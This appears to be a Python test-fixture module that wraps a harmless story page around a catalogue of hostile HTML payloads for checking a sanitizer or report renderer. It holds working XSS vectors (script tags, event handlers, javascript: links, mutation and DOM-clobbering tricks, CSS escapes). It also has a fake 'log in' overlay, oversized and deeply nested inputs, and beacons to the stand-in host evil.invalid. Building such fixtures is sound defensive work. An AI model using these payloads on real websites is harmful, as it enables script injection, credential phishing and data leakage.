"""Pages that try to run, to load, to navigate, to cover the report or to break it, made by one payload at a time.

Programs set `__ran` on every window they can reach; addresses lead to `evil.invalid`.
"""

from collections.abc import Mapping
from typing import Final

RUN: Final = (
    "try{top.__ran=1}catch(e){};try{parent.__ran=1}catch(e){};window.__ran=1;new Image().src='http://evil.invalid/ran'"
)
_URL: Final = "http://evil.invalid"
_DATA_PAGE: Final = "data:text/html,&lt;script&gt;top.__ran=1&lt;/script&gt;"

PAYLOADS: Final[Mapping[str, str]] = {
    "script": f"<script>{RUN}</script>",
    "script in head words": f"</title></textarea></style><script>{RUN}</script>",
    "script from elsewhere": f'<script src="{_URL}/a.js"></script><script type=module src="{_URL}/b.js"></script>',
    "end of data": f"<p>words </script><script>{RUN}</script> &lt;/script&gt;&lt;script&gt;{RUN}&lt;/script&gt; <!-- <script> --></p>",
    "handlers": f'<img src="{_URL}/x.png" onerror="{RUN}"><body onload="{RUN}" onpageshow="{RUN}"><p onmouseover="{RUN}">over</p>',
    "focus": f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}"></select><p tabindex=0 autofocus onfocus="{RUN}">f</p>',
    "animation handlers": f'<style>@keyframes k{{}}p{{animation:k 1s}}</style><p onanimationstart="{RUN}" ontransitionend="{RUN}">a</p>',
    "details": f'<details open ontoggle="{RUN}"><summary>s</summary>words</details><p popover ontoggle="{RUN}">p</p>',
    "marquee": f'<marquee onstart="{RUN}" onfinish="{RUN}">m</marquee>',
    "javascript addresses": f'<a id=a href="javascript:{RUN}">one</a><a href=" jAva&#9;script:{RUN}">two</a><area href="javascript:{RUN}">'
    f'<form action="javascript:{RUN}"><button>go</button><input type=image formaction="javascript:{RUN}"></form>',
    "data addresses": f'<a href="{_DATA_PAGE}">d</a><iframe src="{_DATA_PAGE}"></iframe><object data="{_DATA_PAGE}"></object>',
    "frames": f'<iframe src="{_URL}/f"></iframe><iframe srcdoc="&lt;script&gt;top.__ran=1&lt;/script&gt;"></iframe>'
    f'<frame src="{_URL}/g"><portal src="{_URL}/h"></portal><fencedframe src="{_URL}/i"></fencedframe>',
    "objects": f'<object data="{_URL}/o.swf"><embed src="{_URL}/e.swf"><applet code="{_URL}/A.class"></applet></object>',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><animate onbegin="{RUN}" attributeName=x dur=1s />'
    f'<foreignObject><p>f</p><iframe src="{_URL}/s"></iframe></foreignObject><use href="{_URL}/u.svg#x"/>'
    f'<image href="{_URL}/i.png"/><set attributeName=href to="javascript:{RUN}"/><a href="javascript:{RUN}"><text>t</text></a></svg>',
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext>'
    f'<maction actiontype=statusline xlink:href="javascript:{RUN}">m</maction></math>',
    "refresh": f'<meta http-equiv=refresh content="0;url={_URL}/r"><meta http-equiv=set-cookie content="a=b">',
    "policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "base": f'<base href="{_URL}/" target="_top"><a href="x">relative</a>',
    "links": f'<link rel=stylesheet href="{_URL}/l.css"><link rel=preload as=image href="{_URL}/l.png"><link rel=icon href="{_URL}/i">'
    f'<link rel=dns-prefetch href="{_URL}"><link rel=prerender href="{_URL}/p"><link rel=manifest href="{_URL}/m">',
    "media": f'<img src="{_URL}/1.png" srcset="{_URL}/2.png 2x" loading=eager><picture><source srcset="{_URL}/3.png"><img></picture>'
    f'<video src="{_URL}/v.mp4" poster="{_URL}/p.png" autoplay></video><audio src="{_URL}/a.mp3" autoplay></audio><track src="{_URL}/t">'
    f'<table background="{_URL}/b.png"><tr><td background="{_URL}/c.png">cell</table><input type=image src="{_URL}/d.png">',
    "style loads": f'<style>@import "{_URL}/i.css";@import url({_URL}/j.css);@font-face{{font-family:x;src:url({_URL}/f.woff)}}'
    f"p{{font-family:x;background:url({_URL}/b.png);list-style:url({_URL}/l.png);cursor:url({_URL}/c.cur),auto;"
    f"content:url({_URL}/d.png);mask:url({_URL}/m.svg#m);--x:url({_URL}/v.png)}}p::after{{content:url({_URL}/e.png)}}"
    f'p{{background:image-set("{_URL}/s.png" 1x);width:expression({RUN});behavior:url({_URL}/h.htc)}}</style>'
    f'<p style="background:url({_URL}/z.png);font:url({_URL}/y)">styled</p>',
    "style escapes": f"<style>p{{background:u\\72l({_URL}/k.png)}}}}</style><style>p{{color:red}} </sty }}</style>"
    f'<style>a[b="}}*{{background:url({_URL}/q.png)}}"]{{x:y}} @media x{{ {{ }} }} /*</style><style>*/p{{width:1px}}</style>',
    "cover": "<style>html,body,*{position:fixed!important;inset:0;z-index:2147483647!important;opacity:0!important;"
    "transform:scale(99)}@layer a{*{visibility:hidden!important}}</style>"
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:2147483647">log in</div>',
    "huge layout": "<style>p{margin:99999px;padding:1e9px;height:9e9px;width:100000000px;letter-spacing:123456px}</style>"
    '<p style="width:99999999px;margin-left:calc(1px*1e99)">wide</p>',
    "outline hiding": "<style>scraper-unknown,button,.mark,.marks,#marks,#card{display:none!important}</style>",
    "five megabytes": f'<img src="data:image/png;base64,{"A" * 5_000_000}"><p style="background:url(data:image/png;base64,{"B" * 50_000})">x</p>',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=__ran=1>"></noscript>'
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.__ran=1></style></mglyph></form>"
    '<svg></p><style><a id="</style><img src=1 onerror=top.__ran=1>"></svg><xmp><p title="</xmp><img src onerror=top.__ran=1>">'
    "<table><a href=x><tr><td></a><b><p>x</table><select><option><img src onerror=top.__ran=1></select><listing>&lt;img src onerror=top.__ran=1&gt;</listing>",
    "templates": f'<template><script>{RUN}</script><img src="{_URL}/t.png" onerror="{RUN}"></template>'
    f'<x-a><template shadowrootmode=open><script>{RUN}</script><img src="{_URL}/u.png"><p>in the shadow</p></template></x-a>',
    "clobbering": "<form name=body id=body><input name=append id=append><input id=setAttribute name=appendChild></form>"
    "<img name=documentElement><img name=head><img name=createElement id=createRange><a id=report name=report>r</a>"
    "<form id=frame><input id=contentDocument name=children></form><p id=data>{}</p><p id=marks>m</p><p id=stage>s</p>",
    "forms": f'<form action="{_URL}/post" method=post target=_top><input name=q value=v><button formaction="{_URL}/g">send</button></form>'
    f'<a href="{_URL}/ping" ping="{_URL}/p" target=_blank download>ping</a>',
    "dialogs": '<dialog open>open<form method=dialog><button autofocus>x</button></form></dialog><script>alert(1)</script><p onclick="alert(1)">c</p>',
    "names": f"<p{'/onclick=alert(1)'}>p</p><{'x' * 3000}>long</{'x' * 3000}><a$b onload=x>odd</a$b><o:p>office</o:p><ÄÖ>umlauts</ÄÖ><h1#x>h</h1#x>",
    "is and slots": '<button is="x-b">b</button><slot name=x>s</slot><input type=file><input type=password value=secret><object type=text/html>o</object>',
    "depth": "<div>" * 3000 + "deep" + "</div>" * 3000,
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{_URL}/s"]}}]}}</script><script type=importmap>{{"imports":{{"x":"{_URL}/m"}}}}</script>',
    "direction": "<p>\u202e\u2066 reversed \u202d words \u0000 and \ufffe more \u2028 lines \u2029 end</p>",
}
"""Markup by what it tries."""


def page(payload: str) -> str:
    """Return a page with a story and the payload around it."""
    story = "".join(
        f"<p>The council met on day {day} and decided, after long talks, to repair the bridge by the old mill.</p>"
        for day in range(1, 6)
    )
    return (
        f"<!doctype html><html lang=en><head><title>The bridge by the mill</title>{payload}</head><body>"
        f"<article><h1>The bridge by the mill</h1>{story}{payload}<p>At the end everybody went home, and it rained all night.</p>"
        f"</article>{payload}</body></html>"
    )
